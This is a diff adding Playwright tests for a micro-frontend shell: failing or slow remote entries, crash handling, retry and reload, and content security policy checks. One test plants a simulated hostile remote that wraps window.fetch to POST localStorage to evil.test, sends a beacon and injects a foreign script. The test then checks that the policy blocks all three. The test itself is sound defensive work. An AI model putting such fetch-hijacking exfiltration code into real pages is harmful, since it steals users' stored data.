@@ -84,6 +84,11 @@ const bad: Record<string, (faulty: FaultyStack) => Promise<void> | void> = {
   'an origin that is not allowed': (faulty) => {
     publishNext(faulty, () => ({ entry: 'http://localhost:9/remoteEntry.js' }));
   },
+  'an entry that throws': (faulty) => {
+    const body = 'throw new Error("entry")';
+    faulty.fault({ when: /\/next\/remoteEntry\.js/, answer: { status: 200, body, type: script } });
+    publishNext(faulty, () => ({ integrity: integrityOf(body) }));
+  },
   'an error on evaluation': (faulty) => handMade(faulty, 'throw new Error("evaluation")'),
   'no page': (faulty) => handMade(faulty, 'return {}'),
   'an error on mount': (faulty) => handMade(faulty, 'return { default() { throw new Error("mount") } }'),
@@ -108,6 +113,81 @@ test('a release that never answers gives way within 10 s', async ({ page, faulty
   await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
   await expect(cards(page).first()).toBeVisible({ timeout: 12_000 });
   await expect(page.getByText(notice)).toBeVisible();
+});
+
+test('two releases that crash end in one sentence, once each, while the others work', async ({
+  page,
+  faulty,
+}) => {
+  const body =
+    'var remote_public = { init() {}, get: async () => () => ({ default() { throw new Error("mount") } }) };';
+  faulty.fault({ when: /\/next\/remoteEntry\.js/, answer: { status: 200, body, type: script } });
+  faulty.fault({
+    when: /GET \/remotes\.json/,
+    change: (text) => {
+      const registry = JSON.parse(text) as Record<string, Row[]>;
+      const real = registry.remote_public?.[0] as Row;
+      const next = (version: string) => ({
+        ...real,
+        version,
+        entry: real.entry.replace('/remoteEntry.js', `/next/remoteEntry.js?${version}`),
+        integrity: integrityOf(body),
+        pages: {},
+      });
+      return JSON.stringify({ ...registry, remote_public: [next('b'), next('a')] });
+    },
+  });
+  const entries = () => faulty.requests.filter(({ call }) => call.includes('/next/remoteEntry.js')).length;
+  await page.goto('/');
+  await expect(page.getByText(sorry)).toBeVisible();
+  // The newest one is also fetched ahead.
+  const tries = entries();
+  expect(tries).toBeLessThanOrEqual(3);
+  await signIn(page, 'owner@example.com');
+  await page.getByRole('link', { name: 'Users', exact: true }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'User Management' })).toBeVisible();
+  expect(entries()).toBe(tries);
+});
+
+/** Collects what the content security policy of the page refuses. */
+const watchViolations = (page: Page) =>
+  page.addInitScript(() => {
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      violations.push(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+
+const violationsOf = (page: Page) =>
+  page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+
+test('a remote that turns hostile cannot send anything to a foreign host', async ({ page, faulty }) => {
+  const sent: string[] = [];
+  page.on('requestfinished', (request) => sent.push(request.url()));
+  await watchViolations(page);
+  handMade(
+    faulty,
+    `const real = window.fetch;
+     window.fetch = (...all) => { real('https://evil.test/steal', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {}); return real(...all); };
+     navigator.sendBeacon('https://evil.test/beacon', 'x');
+     const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.head.append(script);
+     return { default: () => null }`,
+  );
+  await page.goto('/');
+  await page.getByRole('button', { name: 'Sign In' }).click();
+  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+  await page.evaluate(() => fetch('/config.json'));
+  await expect
+    .poll(() => violationsOf(page))
+    .toEqual(
+      expect.arrayContaining([
+        'connect-src https://evil.test/steal',
+        'connect-src https://evil.test/beacon',
+        'script-src-elem https://evil.test/script.js',
+      ]),
+    );
+  expect(sent.filter((url) => url.includes('evil.test'))).toEqual([]);
 });
 
 test('with no release that works, the area says so in 10 s and the rest works', async ({ page, faulty }) => {
@@ -141,5 +221,25 @@ test('a part of the shell that could not be fetched once can be fetched again', 
   await expect(page.getByText('This part of the page could not be loaded.')).toBeVisible();
   end();
   await page.getByRole('button', { name: 'Retry' }).click();
+  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+});
+
+test('when it cannot be fetched again either, the page is loaded anew on request', async ({
+  page,
+  faulty,
+}) => {
+  await page.goto('/');
+  await expect(cards(page).first()).toBeVisible();
+  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
+  const end = faulty.fault({ when: /GET \/[\w-]+\.[0-9a-f]{12}\.js/, answer: { status: 404 } });
+  await page.getByRole('button', { name: 'Sign In' }).click();
+  await expect(page.getByText('This part of the page could not be loaded.')).toBeVisible();
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect(page.getByText('Press Retry to load the page anew.')).toBeVisible();
+  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
+  end();
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect.poll(() => page.evaluate(() => 'sameDocument' in window)).toBe(false);
+  await page.getByRole('button', { name: 'Sign In' }).click();
   await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
 });
